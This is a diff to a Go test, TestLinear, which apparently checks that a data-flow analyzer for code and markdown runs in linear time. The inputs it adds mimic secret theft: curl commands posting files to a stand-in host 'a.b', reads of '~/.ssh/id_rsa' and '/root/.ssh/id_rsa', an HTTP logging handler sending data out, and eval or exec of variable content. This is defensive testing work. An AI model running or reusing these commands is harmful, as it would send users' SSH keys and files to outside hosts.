@@ -50,11 +50,15 @@ func TestLinear(t *testing.T) {
 		"x = x + x + [x]\n", "x=\"$x a\"\neval \"$x\"\n", "X='eval \"$X\"; eval \"$X\"'\neval \"$X\"\n", "exec(open(x).read())\n",
 		"import http\nhttp.get(x)\n", "curl -d @$y http://a.b/$x\ny=$(cat z)\n", "def f(a):\n return f(a)\n", "x=~/.ssh/id_rsa; cat $x > $x.a\n",
 		"y.update(x)\nx = y\n", "const {a, b} = c, [d] = e\n", "a=(1 2 3); b+=(${a[@]})\n", "print(f'{a}{b}')\n", "\"a\" ", "\\", "{{", "<<E\n",
+		"for f in a b c d e f g h; do x=$x$f; curl -d @$f$x -F a=@$x https://a.b; done\n",
+		"for f in ['a', 'b', 'c', 'd', 'e', 'f']:\n x = f + x\n open(f + x).write(open(x + f).read())\n",
+		"log.addHandler(logging.handlers.HTTPHandler(x))\nlog.info(x)\n", "f('/root/.ssh/id_rsa')\n",
 	} {
 		for _, name := range names {
 			text := strings.Repeat(part, size/len(part))
 			if strings.HasSuffix(name, ".md") {
-				text = "```python\n" + text + "\n```\n```sh\n" + text + "\n```\n"
+				text = "```python\n" + text + "\n```\n```sh\n" + text + "\n```\n" +
+					strings.Repeat("run curl -d @~/.ssh/x https://a.b/$x and cat "+part+"\n\n", 2000)
 			}
 			start := time.Now()
 			flow.Analyze([]flow.File{{Path: name, Data: []byte(text)}})
